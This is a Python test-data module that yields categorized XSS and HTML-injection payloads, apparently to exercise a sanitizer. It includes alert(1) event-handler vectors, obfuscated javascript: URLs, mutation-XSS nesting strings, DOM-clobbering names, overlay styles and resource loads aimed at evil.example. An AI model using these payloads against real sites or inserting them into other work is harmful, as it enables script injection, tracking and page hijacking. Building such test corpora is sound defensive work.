"""Texts that want to run, fetch, navigate, swallow or pose, by their kinds.

Each calls ``alert`` where it gets to run something, or asks the host evil.example.
"""

# ruff: noqa: E501 (tables of markup)

from collections.abc import Iterator
from itertools import chain, product

IMG = "<img src=x alt=a onerror=alert(1)>"
EVIL = "https://evil.example/a"
RUN = "javascript:alert(1)"

RUNNING = [
    *("script", "iframe", "object", "embed", "applet", "form", "input", "button"),
    *("link", "style", "base", "meta", "frame", "frameset", "portal", "fencedframe"),
    *("template", "select", "option", "textarea", "title", "noscript", "noembed"),
    *("noframes", "xmp", "plaintext", "listing", "keygen", "isindex", "marquee"),
    *("bgsound", "dialog", "output", "label", "fieldset", "datalist", "slot", "param"),
    *("area", "map", "main", "body", "html", "head"),
]
HANDLERS = [
    "onabort",
    "onanimationend",
    "onauxclick",
    "onbeforeinput",
    "onbeforetoggle",
    "onblur",
    "oncancel",
    "oncanplay",
    "onclick",
    "oncontentvisibilityautostatechange",
    "oncopy",
    "onerror",
    "onfocus",
    "onfocusin",
    "onhashchange",
    "oninput",
    "onkeydown",
    "onload",
    "onloadstart",
    "onmessage",
    "onmouseover",
    "onpageshow",
    "onplay",
    "onpointerenter",
    "onpointerrawupdate",
    "onpopstate",
    "onprogress",
    "onresize",
    "onscroll",
    "onscrollend",
    "onsecuritypolicyviolation",
    "onselect",
    "onsubmit",
    "ontoggle",
    "ontouchstart",
    "ontransitionrun",
    "onunload",
    "onwaiting",
    "onwheel",
]
SCHEMES = (
    *(RUN, "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)"),
    *(
        "java&#9;script:alert(1)",
        "java&Tab;script:alert(1)",
        "java&#10;script:alert(1)",
    ),
    *(
        "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)",
        "&#1;javascript:alert(1)",
    ),
    *("javascript://x%0aalert(1)", "vbscript:alert(1)", "data:text/html,<b>a</b>"),
    *(
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "blob:a",
        "file:/a",
    ),
    *(
        "view-source:a",
        "intent:a",
        "filesystem:a",
        "about:srcdoc",
        "jar:a",
        "livescript:a",
    ),
)
ADDRESSES = (EVIL, "//evil.example/a", r"\\evil.example/a", r"/\evil.example/a")
ADDRESSES += ("https:evil.example", "HTTPS://EVIL.example", "&#47;/evil.example/a")
FETCHING = (
    *(
        '<img alt=a src="{}">',
        '<img alt=a srcset="a.png 1x, {} 2x">',
        '<input src="{}">',
    ),
    *('<picture><source srcset="{}"></picture>', '<video src="{}"></video>'),
    *('<video poster="{}"></video>', '<audio src="{}"></audio>', '<embed src="{}">'),
    *('<video><track default src="{}"></video>', '<iframe src="{}"></iframe>'),
    *('<object data="{}"></object>', '<table background="{}"><tr><td>a</table>'),
    *('<svg><image href="{}"/></svg>', '<svg><use href="{}#a"/></svg>'),
    *('<svg><use xlink:href="{}#a"/></svg>', '<svg><feImage href="{}"/></svg>'),
    *('<svg><script href="{}"/></svg>', '<a ping="{}" href="a.html">a</a>'),
    *('<link rel=preload as=image href="{}">', '<link rel=stylesheet href="{}">'),
    *('<meta http-equiv=refresh content="0;url={}">', '<base href="{}">'),
    *('<img alt=a lowsrc="{}">', '<image src="{}">', '<body background="{}">'),
    *('<form action="{}"><button>a</button></form>', '<applet code="{}"></applet>'),
    *('<svg><filter id=a><feImage xlink:href="{}"/></filter></svg>', "![a]({})"),
    *('<svg><rect fill="url({}#a)"/></svg>', '<svg><g mask="url({})"></g></svg>'),
    *('<svg><path marker-end="url(\'{}\')" d="M0 0"/></svg>', "![a][b]\n\n[b]: {}"),
    *(
        '<svg><text filter="url({})">a</text></svg>',
        '<svg><a cursor="url({})">a</a></svg>',
    ),
    *('<math><mglyph src="{}"/></math>', '<p style="background:url({})">a</p>'),
)
STYLES = (
    *("background:url(//evil.example)", "background:u\\72l(//evil.example)"),
    *("background:image-set('//evil.example/a' 1x)", "content:url(//evil.example)"),
    *(
        "background:-webkit-image-set(url(//evil.example) 1x)",
        "cursor:url(//evil.example),auto",
    ),
    *(
        "list-style:url(//evil.example)",
        "list-style-image:image-set('//evil.example' 1x)",
    ),
    *("border-image:url(//evil.example) 1", "mask-image:url(//evil.example)"),
    *(
        "filter:url(//evil.example#a)",
        "clip-path:url(//evil.example#a)",
        "shape-outside:url(a)",
    ),
    *("behavior:url(a.htc)", "-moz-binding:url(a)", "width:expression(alert(1))"),
    *("background:/**/url(//evil.example)", "background:URL( '//evil.example' )"),
    *("@import '//evil.example'", "--a:url(//evil.example);background:var(--a)"),
    *("position:fixed;inset:0;background-color:white", "position:absolute;top:-9999px"),
    *(
        "background:cross-fade(url(//evil.example),red)",
        "background:src('//evil.example')",
    ),
    *(
        "offset-path:url(//evil.example)",
        "transform:scale(99)",
        "z-index:9;position:sticky",
    ),
    *("animation:a 1s", "font-family:a;src:url(//evil.example)", "margin:-9999px"),
)
RAW = [
    *("title", "textarea", "noscript", "noembed", "noframes", "xmp", "iframe"),
    *("style", "script"),
]
COMMENTS = (
    *(
        "<!-->{}-->",
        "<!--->{}-->",
        "<!--a--!>{}-->",
        "<!--a--!>{}",
        "<!-- a --> {} <!-- b -->",
    ),
    *(
        "<!-- a <!-- b --> {} -->",
        "<!--[if IE]>a<![endif]-->{}",
        "<![CDATA[{}]]>",
        "<!a{}>",
    ),
    *(
        "<?xml {}?>",
        "<?php ?>{}",
        "</ {}>",
        "<!DOCTYPE a {}>",
        "<!-- {}",
        "<!{}",
        "<? {}",
    ),
    *(
        "<!--\n\n-->\n\n{}",
        "<svg><!--</svg>{}-->",
        "<math><![CDATA[</math>{}]]></math>",
    ),
    *("`<!--` {} `-->`", "<!-- a\n\nb {}", "text <!--> {} --> more", "</>{}"),
)
DRAWINGS = (
    *('<svg><a><set attributeName=href to="{}"/><text>a</text></a></svg>',),
    *('<svg><a><animate attributeName=href values="{}"/><text>a</text></a></svg>',),
    *('<svg><a><animate attributeName=xlink:href from=a to="{}" dur=1s /></a></svg>',),
    *('<svg><animateTransform onbegin="alert(1)" attributeName=x dur=1s /></svg>',),
    *('<svg><discard onbegin="alert(1)"/></svg>', '<svg onload="alert(1)"></svg>'),
    *("<svg><script>alert(1)</script></svg>", "<svg><style>*{{}}</style></svg>"),
    *('<svg><foreignObject><iframe src="{}"></iframe></foreignObject></svg>',),
    *('<svg><handler type="text/javascript">alert(1)</handler></svg>',),
    *(
        '<svg><a href="{}"><text>a</text></a></svg>',
        '<svg><use href="data:a,{}"/></svg>',
    ),
    *("<svg><title><img src=x onerror=alert(1)></title></svg>",),
    *("<svg><desc><p><img src=x onerror=alert(1)></p></desc></svg>",),
    *("<svg><metadata><img src=x onerror=alert(1)></metadata></svg>",),
    *(
        '<math href="{}">a</math>',
        '<math><maction actiontype="statusline" href="{}">a</maction></math>',
    ),
    *(
        '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    ),
    *("<math><mtext><img src=x onerror=alert(1)></mtext></math>",),
    *(
        '<math><mi xlink:href="{}">a</mi></math>',
        '<math><semantics><a href="{}">a</a></semantics></math>',
    ),
)
NESTED = (
    *("<svg><p><style><a id='</style>{}'>", '<svg></p><style><a id="</style>{}">'),
    *(
        "<math><p><style><!--</style>{}-->",
        "<svg><desc><svg><image><a><desc><title><a id='</title>{}'>",
    ),
    *("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>",),
    *("<form><math><mtext></form><form><mglyph><style></math>{}</style>",),
    *("<math><mtext><option><p><style><!--</style>{}--></style>",),
    *("<noscript><p title='</noscript>{}'>", "<template><p title='</template>{}'>"),
    *("<select><style></select>{}</style>", "<select><p title='</select>{}'></select>"),
    *(
        "<table><style><p title='</style>{}'></table>",
        "<table><td><svg></td>{}</svg></table>",
    ),
    *(
        "<ruby><rt><svg></rt><title>{}</title>",
        "<svg><tspan><title><b id='</title>{}'>",
    ),
    *(
        "<svg><foreignObject><p id='</foreignObject>{}'></svg>",
        "<dl><svg><dd><style>{}</style>",
    ),
    *(
        "<math><mi><xmp>{}</xmp></mi></math>",
        "<svg><text><![CDATA[><b>{}]]></text></svg>",
    ),
    *(
        "<a href='x'><a title='</a>{}'>b</a>",
        "<b><p></b>{}</p>",
        "<u><table><u>{}</table>",
    ),
)
CLOSING = [
    *("div", "article", "main", "body", "html", "section", "header", "footer"),
    *("aside", "p", "ul", "table", "a"),
]
OPENED = ["b", "i", "em", "a", "font", "code", "tt", "nobr", "strike", "u", "big"]
TRICKS = (
    *(
        '<b\u00a0y=" onclick=alert(1) ">z</b>',
        '<b\u2003y="{}">z</b>',
        '<i a=b\u00a0c="> {}">z</i>',
    ),
    *(
        '<i a=\u00a0">{}">z</i>',
        "<b/onclick=alert(1)>z</b>",
        "<b\nonclick\n=\nalert(1)>z</b>",
    ),
    *(
        "<b x='<b y=\"'>{}\">",
        "<b a=`>{}`>z</b>",
        "<b \"=\"><b title='{}'>",
        "<b =a onclick=alert(1)>z",
    ),
    *(
        "<b onclick=alert(1)//>z",
        "<b title='a'onclick=alert(1)>z",
        "<b title=\"a\"title='{}'>z</b>",
    ),
    *(
        "<b\x0conclick=alert(1)>z</b>",
        "<b a=1 /onclick=alert(1)>z",
        "<<b onclick=alert(1)>z",
    ),
    *(
        "<b on click=alert(1) onclick=alert(1)>z",
        "<b ONCLICK=alert(1)>z",
        "<b a='>' onclick=alert(1)>z",
    ),
    *(
        "<b \\onclick=alert(1)>z",
        "<b ;onclick=alert(1)>z",
        "<img alt=a src=x/onerror=alert(1)>",
    ),
    *("<a href=x onclick=alert(1)", "<b title='{}", '<b title="{}', "<b title={}>"),
    *("<%b onclick=alert(1)>", "<b{}>", "<\u212aimg src=x onerror=alert(1)>", "<b><{}"),
)
POSING = [
    *("forms", "body", "head", "location", "cookie", "domain", "scripts", "title"),
    *("getElementById", "images"),
]
MARKDOWN = (
    *(
        'word {{: onclick="alert(1)" }}\n',
        '[a](b.html){{: onclick="alert(1)" }}',
        "# A {{: style='position:fixed' }}\n",
    ),
    *(
        '![a](b.png){{: onerror="alert(1)" }}',
        "~~~ {{ .a onclick='alert(1)' }}\nb\n~~~\n",
        "a\n{{: id=main }}\n",
    ),
    *(
        '![a" onerror="alert(1)](b.png)',
        '![a](b.png "c" onerror="alert(1)")',
        '[a](<b" onclick="alert(1)>)',
    ),
    *(
        "[a]: b.html \"c' onclick='alert(1)\"\n\n[a]",
        "[a]({})",
        "<{}>",
        "[a][b]\n\n[b]: <{}>",
    ),
    *(
        '*[word]: a" onmouseover="alert(1)\n\na word',
        'a[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: b',
    ),
    *(
        '```"><img src=x onerror=alert(1)>\na\n```\n',
        '[@"><img src=x onerror=alert(1)>]',
        "# <b onclick=alert(1)>a</b>\n",
    ),
    *(
        '<div markdown="1" onclick="alert(1)">a</div>',
        '<div markdown="block"><img src=x onerror=alert(1)></div>',
    ),
    *(
        "| a |\n| --- |\n| <img src=x onerror=alert(1)> |\n",
        "> <img src=x onerror=alert(1)>\n",
        "- <svg onload=alert(1)>\n",
    ),
    *(
        "[a](data:text/html,b)",
        "[<img src=x onerror=alert(1)>](b.html)",
        "`a`<img src=x onerror=alert(1)>`b`",
    ),
    *(
        "&lt;img src=x onerror=alert(1)&gt;",
        "\\<img src=x onerror=alert(1)\\>",
        "`<img src=x onerror=alert(1)>`",
    ),
    *(
        '<cl-cite keys="a"><img src=x onerror=alert(1)></cl-cite>',
        '<blockquote cl-source="a" onclick="alert(1)">b</blockquote>',
    ),
    *(
        '!!! note "<img src=x onerror=alert(1)>"\n    a\n',
        "Term\n: <img src=x onerror=alert(1)>\n",
        "[TOC]\n\n# a<script>alert(1)</script>\n",
    ),
    *(
        "\x01<img src=x onerror=alert(1)>",
        "wzxhzdk:0 <b>a</b>",
        "\x02klzzwxh:0000\x03",
        "%3Cimg src=x onerror=alert(1)%3E",
    ),
)
OVER = (
    *('<p style="font-size:900px;line-height:0">█</p>', "<big>" * 9 + "█"),
    *('<b style="line-height:0">a', '<b style="line-height:120%">a'),
    *('<p style="font-size:9em">█</p>', '<p style="font-size:calc(9999%)">█</p>'),
    *('<p style="font-size:900px;font-size:1em">█</p>', "<b style=font-size:9in>█"),
    '<p style="font-size:2em"><b style="font-size:300%">█</b></p>',
    '<sup><b style="font-size: 900PX !important">█</b></sup>',
    *('<div style="height:0"><p>a</p></div>', '<p style="height:1px">a<br>b</p>'),
    *('<p style="line-height:100%">a<b style="font-size:2em">b</b></p>',),
    *('<p style="font:16px/0 serif">a</p>', '<p style="font:90px serif">a</p>'),
    *('<p style="line-height:1px"><font size="7">a</font></p>',),
    *('<p style="text-decoration:underline overline 90px red">a</p>',),
    *('<b style="text-decoration-thickness:9em">a', '<b style="outline:9em solid">a'),
    *('<b style="padding:9em">a</b>', '<b style="border-top:9em solid red">a</b>'),
    *('<b style="padding-block-end:calc(99%)">a', '<b style="padding:9vmax">a</b>'),
    *('<p style="margin-left:-9em">a', '<p style="margin:0 0 -1px">a</p>'),
    *('<p style="text-indent:-99em">a', '<p style="letter-spacing:-9em">a</p>'),
    *('<p style="word-spacing:-9em">a', '<p style="font-size-adjust:9">a</p>'),
    *('<p style="float:left">a', '<p style="display:inline;padding:9em">a</p>'),
    '<table><tr><td style="display:block;height:1px"><p>a</p></table>',
    '<p style="display:none">a</p>',
    '<img src=a.png alt=a style="overflow:visible;object-fit:none;width:1px">',
    '<svg style="overflow: VISIBLE !important"><rect x="-9" width="99"/></svg>',
    "<ul><li style=\"list-style-type:'aaaaaaaaaaaaaaaaaaaaaaaaaaaa'\">a</ul>",
    '<b style="-webkit-text-stroke-width:9em">a</b>',
    '<p style="-webkit-text-size-adjust:900%">a</p>',
    '<svg width="1" overflow="visible"><rect x="-999" width="9999" height="99"/></svg>',
    '<svg overflow="initial"><rect x="-999" width="9999" height="99"/></svg>',
    '<svg transform="scale(900)"><rect width="9" height="9"/></svg>',
    '<math><mpadded height="0"><mspace width="9em" height="9em"/></mpadded></math>',
    '<math><mpadded voffset="9em"><mi>a</mi></mpadded></math>',
    '<math><mpadded depth="-9em"><mi>a</mi></mpadded></math>',
    '<math><mtext mathsize="9000%">█</mtext></math>',
    '<math><mstyle scriptlevel="-12"><mtext>█</mtext></mstyle></math>',
)
SPEAKING = (
    *('<a rel="me" href="{}">a</a>', '<a rel="license" href="{}">a</a>'),
    *('<a rel="opener" target="_blank" href="{}">a</a>', "<p rel=nofollow>a</p>"),
    *('<p class="p-author h-card">a</p>', '<b class="a\n u-url">a</b>'),
    *('<p class="vcard">a</p>', '<div class="a hentry">a</div>'),
    *('<p aria-owns="credit">a</p>', "<p vocab=a typeof=b>a</p>", "<p about=a>a</p>"),
    *("<p itemscope>a</p>", '<meta name="referrer" content="unsafe-url">'),
)
"""Say something of the page, to its readers or to machines."""
RECENT = (
    *("<p popover>a</p>", "<p popovertarget=a>a</p>", "<p interestfor=a>a</p>"),
    *("<p command=--a commandfor=b>a</p>", '<p is="x-a">a</p>', "<x-a>a</x-a>"),
    *("<p part=a slot=b>a</p>", "<p shadowrootmode=open>a</p>", "<p inert>a</p>"),
    *("<p srcdoc='<script>alert(1)</script>'>a</p>", "<p contenteditable>a</p>"),
    *("<p oncommand=alert(1)>a</p>", "<p onpagereveal=alert(1)>a</p>"),
    *("<p onscrollsnapchange=alert(1)>a</p>", "<p onbeforematch=alert(1)>a</p>"),
    *('<a attributionsrc="{}" href=b.html>a</a>', "<a attributionsrc href=a>a</a>"),
    *("<img alt=a src=b.png sharedstoragewritable>", "<p nonce=a>a</p>"),
    *("<img alt=a src=b.png browsingtopics>", "<p autofocus tabindex=0>a</p>"),
    *('<p style="view-transition-name:root">a', '<p style="anchor-name:--a">a'),
    *('<p style="width:attr(data-x type(<url>))">a', '<p style="color:paint(a)">a'),
    *('<p style="color:if(style(--a:b):red)">a', '<p style="color:env(a)">a'),
    *('<p style="content-visibility:hidden">a', '<p style="color:var(--paper)">a'),
    '<style>@property --a{syntax:"<url>";inherits:true;initial-value:url({})}</style>',
    *("<style>@view-transition{navigation:auto}</style>", "<permission type=camera>"),
    *("<selectedcontent>a</selectedcontent>", '<model src="{}"></model>'),
    *('<link rel=compression-dictionary href="{}">', '<webview src="{}"></webview>'),
    '<script type="webbundle">{"source":"https://evil.example/"}</script>',
    '<svg><animate attributeName=href values="{}"/><a id=z9><text>a</text></a></svg>',
    "<svg><use href='data:image/svg+xml,<svg id=a onload=alert(1) />#a'/></svg>",
    '<svg><rect fill="url(#a) url({})"/></svg>',
    '<svg><a xmlns:x="http://www.w3.org/1999/xlink" x:href="{}"><text>a</text></a></svg>',
    '<math><annotation-xml encoding="application/xhtml+xml"><svg><style>{}</style>',
    "<math><mtext><mglyph><svg><mtext><textarea><a title='</textarea>{}'>",
    "<select><button><selectedcontent></selectedcontent></button><option>{}</select>",
    *("<svg><font color=red><style>{}</style></svg>", "<svg></br><p title='{}'>"),
)


def texts() -> Iterator[tuple[str, str]]:
    """Each text, with the name of its kind."""
    yield from _of_names()
    yield from _of_addresses()
    yield from _of_the_page()
    yield from (("over", form) for form in OVER)
    for form in chain(COMMENTS, DRAWINGS, NESTED, TRICKS, SPEAKING, RECENT):
        yield "form", form.replace("{}", IMG if "href" not in form else RUN)
    for form in MARKDOWN:
        yield (
            "markdown",
            form.replace("{{", "{").replace("}}", "}").replace("{}", RUN),
        )


def _of_names() -> Iterator[tuple[str, str]]:
    for name in RUNNING:
        yield f"element {name}", f"<{name}>{IMG}</{name}>"
        yield f"open element {name}", f"Text <{name} src={EVIL}>"
    for number, name in enumerate(HANDLERS):
        tags = ("p", "a", "img alt=a src=b.png", "svg", "details open", "math")
        yield f"handler {name}", f"<{tags[number % 6]} {name}=alert(1)>a"
    for name in RAW:
        yield f"raw {name}", f'<{name}><a title="</{name}>{IMG}">'
        yield f"raw {name} in words", f'Text <{name}><a title="</{name}>{IMG}">x</a>'
    for kind in ("importmap", "speculationrules", "module", "text/plain"):
        yield f"script {kind}", f'<script type="{kind}">{{"prefetch": []}}</script>'
    for kind in ("Content-Security-Policy", "set-cookie", "refresh"):
        yield f"meta {kind}", f'<meta http-equiv="{kind}" content="0;url={EVIL}">'


def _of_addresses() -> Iterator[tuple[str, str]]:
    for scheme, form in product(SCHEMES, ('<a href="{}">a</a>', "[a]({})")):
        yield f"scheme {form[0]}", form.format(scheme)
    for number, form in enumerate(FETCHING):
        for place in (0, 1 + number % (len(ADDRESSES) - 1)):
            yield "address", form.format(ADDRESSES[place])
    for number, style in enumerate(STYLES):
        tag = ("p", "svg", "td", "ul", "span", "img alt=a src=b.png")[number % 6]
        yield "style", f'<{tag} style="{style}">a</{tag}>'
        yield "sheet", f"<style>p {{{style}}}</style>"


def _of_the_page() -> Iterator[tuple[str, str]]:
    for name, depth in product(CLOSING, (1, 9)):
        yield f"closing {name}", f"Text.\n\n{f'</{name}>' * depth}\n\nMore."
        yield f"closing {name} at the end", f"Text.\n\n{f'</{name}>' * depth}"
    for name in OPENED:
        yield f"left open {name}", f"Text.\n\n<p><{name}>more"
    forms = ("a id={}", "img alt=a src=b.png name={}", "p name={}")
    for name, form in product(POSING, forms):
        yield f"posing {form[0]}", f"<{form.format(name)}>a"
    for said in ("itemprop=author", "property=og:title", "data-pagefind-meta=outlet:a"):
        yield "poses as data", f"<p {said}>Somebody else</p>"
